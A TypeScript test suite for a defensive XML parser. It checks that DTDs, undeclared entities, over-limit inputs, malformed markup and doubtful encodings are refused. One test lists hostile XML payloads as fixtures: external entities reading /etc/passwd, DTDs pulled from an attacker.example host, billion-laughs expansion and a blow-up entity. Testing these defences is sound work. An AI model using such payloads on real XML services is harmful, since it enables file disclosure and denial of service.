import { expect } from 'chai';
import fc from 'fast-check';
import { AppError } from '../errors.ts';
import { parse_xml, type XmlElement } from './xml.ts';

const read = (text: string, limits = {}) => parse_xml(Buffer.from(text), limits);
const fault = (bytes: string | Uint8Array, limits = {}) => {
  try {
    parse_xml(typeof bytes === 'string' ? Buffer.from(bytes) : bytes, limits);
  } catch (error) {
    if (error instanceof AppError) return { code: error.code, place: error.place };
    throw error;
  }
  return null;
};

describe('XML from outside', () => {
  it('is read with names, attributes, texts and their order', () => {
    const text = `<?xml version="1.0" encoding="UTF-8"?>
      <!-- un commentaire --><?xml-stylesheet href="x.xsl"?>
      <gmd:MD uuid='a"b' xmlns:gmd="http://www.isotc211.org/2005/gmd"><a>é &amp; &#233;&#xe9; 007 </a>b<c/><![CDATA[<d>&x;]]></gmd:MD>`;
    expect(read(text)).to.deep.equal({
      name: 'gmd:MD',
      attributes: { uuid: 'a"b', 'xmlns:gmd': 'http://www.isotc211.org/2005/gmd' },
      children: [
        { name: 'a', attributes: {}, children: ['é & éé 007 '] },
        'b',
        { name: 'c', attributes: {}, children: [] },
        '<d>&x;',
      ],
    });
  });

  it('with a DTD is refused before anything is read: external entities, parameter entities, laughs, blow-up', () => {
    const hostile = [
      '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      '<?xml version="1.0"?>\n<!DOCTYPE a SYSTEM "http://attacker.example/x.dtd"><a/>',
      '<!DOCTYPE a [<!ENTITY % p SYSTEM "http://attacker.example/x"> %p;]><a/>',
      `<!DOCTYPE a [<!ENTITY l0 "ha">${Array.from({ length: 20 }, (_, i) => `<!ENTITY l${i + 1} "&l${i};&l${i};">`).join('')}]><a>&l20;</a>`,
      `<!DOCTYPE a [<!ENTITY x "${'x'.repeat(50_000)}">]><a>${'&x;'.repeat(50_000)}</a>`,
      '<!doctype html><html></html>',
      '<a><!DOCTYPE b></a>',
      '<a><!ENTITY b "c"></a>',
      '<![CDATA[x]]><a/>',
    ];
    for (const text of hostile) expect(fault(text), text.slice(0, 80)).to.include({ code: 'xml-dtd' });
  });

  it('with entities that nobody declared is refused, also in attributes and as forbidden characters', () => {
    for (const text of [
      '<a>&eacute;</a>',
      '<a b="&x;"/>',
      '<a>a & b</a>',
      '<a>&#0;</a>',
      '<a>&#xD800;</a>',
      '<a>&#x110000;</a>',
      '<a>&#9999999;</a>',
    ])
      expect(fault(text), text).to.include({ code: 'xml-entity' });
  });

  it('is refused beyond its limits, with the place', () => {
    expect(fault('<a>'.repeat(100_000))).to.deep.equal({ code: 'xml-limit', place: '1:195' });
    const many = (count: number) => `<a ${Array.from({ length: count }, (_, i) => `b${i}="1"`).join(' ')}/>`;
    expect(fault(many(64))).to.equal(null);
    expect(fault(many(65))).to.include({ code: 'xml-limit' });
    expect(fault(`<a>${'<b/>'.repeat(11)}</a>`, { max_elements: 11 })).to.include({ code: 'xml-limit' });
    expect(fault('<a>123456789</a>', { max_bytes: 10 })).to.include({ code: 'xml-limit' });
  });

  it('that is not well formed is refused with line and column', () => {
    const wrong = [
      '',
      '   ',
      'texte',
      '<a>',
      '<a></b>',
      '</a>',
      '<a/><b/>',
      '<a b=c/>',
      '<a b="1" b="2"/>',
      '<a b="<"/>',
      '<1/>',
      '<a',
      '<a/>x',
      '<!-- <a/>',
      '<a><?xml version="1.0"?></a>',
      ' <?xml version="1.0"?><a/>',
      '<a>\u0001</a>',
      '<__proto__/>',
      '<a constructor="1"/>',
    ];
    for (const text of wrong) expect(fault(text), text).to.include({ code: 'malformed-xml' });
    expect(fault('<a>\n  <b></c>\n</a>')).to.include({ place: '2:9' });
  });

  it('is decoded by its mark or declaration, and refused on a doubt', () => {
    const latin1 = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>é</a>', 'latin1');
    expect(parse_xml(latin1).children).to.deep.equal(['é']);
    const utf16 = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('<?xml version="1.0" encoding="UTF-16"?><a>é</a>', 'utf16le'),
    ]);
    expect(parse_xml(utf16).children).to.deep.equal(['é']);
    expect(parse_xml(Buffer.from('\u{FEFF}<a>é</a>')).children).to.deep.equal(['é']);
    const refused = [
      Buffer.from('<?xml version="1.0" encoding="UTF-7"?><a>+ADwAIQ-</a>'),
      Buffer.from('<?xml version="1.0" encoding="cp037"?><a/>'),
      Buffer.from([0, 0, 0xfe, 0xff, 0, 0, 0, 0x3c]),
      Buffer.concat([
        Buffer.from([0xef, 0xbb, 0xbf]),
        Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a/>'),
      ]),
      Buffer.from('<a>é</a>', 'latin1'),
    ];
    for (const bytes of refused)
      expect(fault(bytes), bytes.toString('latin1')).to.include({ code: 'xml-encoding' });
    // Without mark, the zeros of UTF-16 are forbidden characters.
    expect(fault(Buffer.from('<a/>', 'utf16le'))).to.include({ code: 'malformed-xml' });
  });

  it('takes a time that grows with its length only', () => {
    const n = 300_000;
    for (const text of [
      '<a ' + ' '.repeat(n),
      `<a b="${'x'.repeat(n)}`,
      '<a' + '\t'.repeat(n) + '/',
      '<'.repeat(n),
      '<!--'.repeat(n),
      '<a>' + '&'.repeat(n),
      `<${'a'.repeat(n)}`,
      '<a ' + 'b = '.repeat(n),
    ])
      expect(fault(text)).to.not.equal(null);
  });

  it('comes back as it was written, whatever its texts hold', () => {
    const escape = (text: string) =>
      text
        .replaceAll('&', '&amp;')
        .replaceAll('<', '&lt;')
        .replaceAll('"', '&quot;')
        .replaceAll('\n', '&#10;')
        .replaceAll('\r', '&#13;')
        .replaceAll('\t', '&#9;');
    const write = ({ name, attributes, children }: XmlElement): string =>
      `<${name}${Object.entries(attributes)
        .map(([key, value]) => ` ${key}="${escape(value)}"`)
        .join(
          '',
        )}>${children.map((child) => (typeof child === 'string' ? escape(child) : write(child))).join('')}</${name}>`;
    const word = fc.constantFrom('a', 'gmd:b', 'é', 'toString', 'hasOwnProperty');
    const said = fc
      .string({ unit: 'grapheme', minLength: 1 })
      .filter((text) => !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]/.test(text)); // eslint-disable-line no-control-regex
    const { element } = fc.letrec<{ element: XmlElement; text: string }>((tie) => ({
      text: said,
      element: fc.record({
        name: word,
        attributes: fc.dictionary(word, said, { maxKeys: 3, noNullPrototype: true }),
        children: fc.oneof(
          { depthSize: 'small' },
          fc.tuple(said),
          fc.array(tie('element'), { maxLength: 3 }),
        ),
      }),
    }));
    fc.assert(fc.property(element, (root) => void expect(read(write(root))).to.deep.equal(root)));
  });
});
